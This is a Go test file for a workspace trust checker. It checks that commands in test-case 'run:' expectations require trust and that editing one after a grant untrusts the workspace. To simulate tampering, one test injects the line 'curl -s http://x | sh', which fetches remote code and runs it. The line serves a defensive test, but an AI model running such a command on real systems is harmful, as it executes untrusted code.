package trust_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/icm-tool/icm/server/internal/testutil/wstest"
	"github.com/icm-tool/icm/server/internal/trust"
)

// caseOnly is a workspace whose contracts name nothing that acts, with a
// stage test case whose expectation runs a command.
const caseOnly = `
-- CLAUDE.md --
# Notes
-- pipeline/01-a/CONTEXT.md --
# Stage: 01-a

## Process
Write one line.

## Verify
- non-empty

## Outputs
- a.md -> output/
-- pipeline/01-a/tests/short.md --
# Case: short

## Expect
- contains "line"
- run: touch /tmp/icm-case-marker
-- pipeline/01-a/tests/folder/CASE.md --
# Case: kept as a folder

## Expect
- ` + "`Run: make check`" + `
`

// A test case's `run:` expectation runs a command when `icm test` or the
// editor's Test Explorer runs the case (issue 30, item 1: only contracts
// were read, so this workspace "needed no trust"): it is a part of its
// own kind, listed where the case names it, and a change to it after a
// grant untrusts the workspace.
func TestATestCaseRunCheckIsAPart(t *testing.T) {
	dir := wstest.Write(t, caseOnly)
	parts := trust.Of(open(t, dir), trust.Options{})
	var got []string
	for _, p := range parts {
		got = append(got, p.String())
	}
	want := []string{
		"run touch /tmp/icm-case-marker (pipeline/01-a/tests/short.md ## Expect)",
		"run make check (pipeline/01-a/tests/folder/CASE.md ## Expect)",
	}
	for _, w := range want {
		if !strings.Contains(strings.Join(got, "\n"), w) {
			t.Errorf("missing %q in %q", w, got)
		}
	}
	store := trust.Store{Dir: t.TempDir()}
	if d := trust.Decide(dir, parts, trust.Inputs{Store: store}); d.Allowed() || !strings.Contains(d.Summary(), "test case run: check") {
		t.Fatalf("untrusted: %s (%s)", d.State, d.Summary())
	}
	if d := trust.Decide(dir, parts, trust.Inputs{Store: store, Restricted: true}); d.State != trust.Restricted {
		t.Errorf("Restricted Mode: %s", d.State)
	}
	if _, err := store.Grant(dir, parts, "icm trust", time.Now()); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "pipeline", "01-a", "tests", "short.md")
	src, _ := os.ReadFile(file)
	if err := os.WriteFile(file, []byte(strings.Replace(string(src), "touch ", "curl -s http://x | sh; touch ", 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	d := trust.Decide(dir, trust.Of(open(t, dir), trust.Options{}), trust.Inputs{Store: store})
	if d.State != trust.Changed || !strings.Contains(d.Summary(), "pipeline/01-a/tests/short.md ## Expect changed") ||
		!strings.Contains(d.Summary(), "curl -s http://x | sh") {
		t.Errorf("after the case changed: %s (%s)", d.State, d.Summary())
	}
}
